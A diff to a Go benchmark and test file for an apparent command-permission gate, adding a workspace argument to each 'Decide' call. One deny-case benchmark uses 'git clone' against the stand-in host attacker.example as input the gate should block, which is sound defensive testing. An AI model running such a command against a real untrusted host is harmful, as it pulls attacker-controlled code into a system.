@@ -42,7 +42,7 @@ func BenchmarkDecide(b *testing.B) {
 		args := []string{"-v", "-x"}
 		b.ReportAllocs()
 		for b.Loop() {
-			g.Decide("run_tests", "pytest", args)
+			g.Decide("run_tests", "pytest", args, ws)
 		}
 	})
 	b.Run("seed/deny-unlisted", func(b *testing.B) {
@@ -50,7 +50,7 @@ func BenchmarkDecide(b *testing.B) {
 		args := []string{"clone", "https://attacker.example/repo"}
 		b.ReportAllocs()
 		for b.Loop() {
-			g.Decide("run_tests", "git", args)
+			g.Decide("run_tests", "git", args, ws)
 		}
 	})
 	for _, n := range []int{10, 1000, 10000} {
@@ -60,7 +60,7 @@ func BenchmarkDecide(b *testing.B) {
 			args := []string{"check"}
 			b.ReportAllocs()
 			for b.Loop() {
-				g.Decide(tool, cmd, args)
+				g.Decide(tool, cmd, args, ws)
 			}
 		})
 	}
@@ -70,11 +70,11 @@ func BenchmarkDecide(b *testing.B) {
 func TestAllowPathDoesNotAllocate(t *testing.T) {
 	g := seedGate(t)
 	args := []string{"-v", "-x"}
-	if n := testing.AllocsPerRun(100, func() { g.Decide("run_tests", "pytest", args) }); n != 0 {
+	if n := testing.AllocsPerRun(100, func() { g.Decide("run_tests", "pytest", args, ws) }); n != 0 {
 		t.Fatalf("allow path allocates %v times per decision", n)
 	}
 	g = generated(t, 10000)
-	if n := testing.AllocsPerRun(100, func() { g.Decide("tool999", "cmd9999", []string{"check"}) }); n != 0 {
+	if n := testing.AllocsPerRun(100, func() { g.Decide("tool999", "cmd9999", []string{"check"}, ws) }); n != 0 {
 		t.Fatalf("allow path on 10,000 rules allocates %v times per decision", n)
 	}
 }
